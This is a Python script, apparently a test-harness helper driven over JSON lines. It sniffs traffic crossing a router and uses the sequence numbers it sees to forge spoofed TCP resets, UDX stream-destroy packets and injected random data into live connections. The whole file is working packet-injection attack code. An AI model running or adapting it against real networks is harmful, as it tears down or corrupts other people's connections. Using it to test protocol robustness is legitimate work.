"""A third process on the wire: reads what crosses the router, and forges what fits into it.

JSON lines in and out (line-process.ts). {"id": 1, "do": "udx-reset", "to": "198.51.100.101"}
answers {"id": 1, "sent": N}: N packets were forged in the name of whoever speaks to that address.

  udx-reset   the flag that destroys a stream, with its id
  udx-data    64 random bytes under the number that comes next
  tcp-rst     a reset with exactly the number that comes next
  tcp-data    64 random bytes with that number

All numbers are read off the wire: nothing is asked of either end.
"""
import json
import os
import socket
import struct
import sys
import threading

ETH_P_IP = 0x0800
UDX = b"\xff\x01"
DATA, DESTROY = 0b1, 0b10000
LIVE = 8  # streams remembered for each address: the newest

seen_udx = {}  # (src, sport, dst, dport, id) -> (next number, ack)
seen_tcp = {}  # (src, sport, dst, dport) -> (next number, ack, window)
lock = threading.Lock()


def keep(table, key, value):
    with lock:
        table.pop(key, None)
        table[key] = value
        if len(table) > 256:
            table.pop(next(iter(table)))


def read_udp(src, dst, packet):
    sport, dport = struct.unpack_from("!HH", packet)
    body = packet[8:]
    if len(body) < 20 or body[:2] != UDX:
        return
    flags, offset = body[2], body[3]
    stream, _, number, ack = struct.unpack_from("<IIII", body, 4)
    is_data = flags & DATA and len(body) > 20 + offset
    keep(seen_udx, (src, sport, dst, dport, stream), (number + (1 if is_data else 0), ack))


def read_tcp(src, dst, packet):
    sport, dport, number, ack, head, flags, window = struct.unpack_from("!HHIIBBH", packet)
    length = len(packet) - (head >> 4) * 4
    key = (src, sport, dst, dport)
    if flags & 0x05:  # FIN, RST: it is over
        with lock:
            seen_tcp.pop(key, None)
        return
    step = length + (1 if flags & 0x02 else 0)
    if flags & 0x10:
        keep(seen_tcp, key, ((number + step) & 0xFFFFFFFF, ack, window))


def sniff():
    tap = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(ETH_P_IP))
    while True:
        packet, source = tap.recvfrom(65536)
        if source[2] == socket.PACKET_OUTGOING:  # seen when it came in, or forged here
            continue
        head = (packet[0] & 15) * 4
        length = struct.unpack_from("!H", packet, 2)[0]
        src, dst = packet[12:16], packet[16:20]
        body = packet[head:length]
        if packet[9] == 17:
            read_udp(src, dst, body)
        elif packet[9] == 6:
            read_tcp(src, dst, body)


raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)


def checksum(data):
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def send(src, dst, protocol, body):
    head = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(body), 0, 0, 64, protocol, 0, src, dst)
    raw.sendto(head + body, (socket.inet_ntoa(dst), 0))


def forge_udx(to, flags, payload):
    with lock:
        found = [item for item in seen_udx.items() if item[0][2] == to][-LIVE:]
    for (src, sport, dst, dport, stream), (number, ack) in found:
        body = UDX + bytes([flags, 0]) + struct.pack("<IIII", stream, 0xFFFF, number, ack) + payload
        send(src, dst, 17, struct.pack("!HHHH", sport, dport, 8 + len(body), 0) + body)
    return len(found)


def forge_tcp(to, flags, payload):
    with lock:
        found = [item for item in seen_tcp.items() if item[0][2] == to][-LIVE:]
    for (src, sport, dst, dport), (number, ack, window) in found:
        part = struct.pack("!HHIIBBHHH", sport, dport, number, ack, 0x50, flags, window, 0, 0)
        pseudo = src + dst + struct.pack("!BBH", 0, 6, len(part) + len(payload))
        total = checksum(pseudo + part + payload)
        send(src, dst, 6, part[:16] + struct.pack("!H", total) + part[18:] + payload)
    return len(found)


DO = {
    "udx-reset": lambda to: forge_udx(to, DESTROY, b""),
    "udx-data": lambda to: forge_udx(to, DATA, os.urandom(64)),
    "tcp-rst": lambda to: forge_tcp(to, 0x04, b""),
    "tcp-data": lambda to: forge_tcp(to, 0x18, os.urandom(64)),
}


def main():
    threading.Thread(target=sniff, daemon=True).start()
    print(json.dumps({"ready": True}), flush=True)
    for line in sys.stdin:
        ask = json.loads(line)
        sent = DO[ask["do"]](socket.inet_aton(ask["to"]))
        print(json.dumps({"id": ask["id"], "sent": sent}), flush=True)


main()
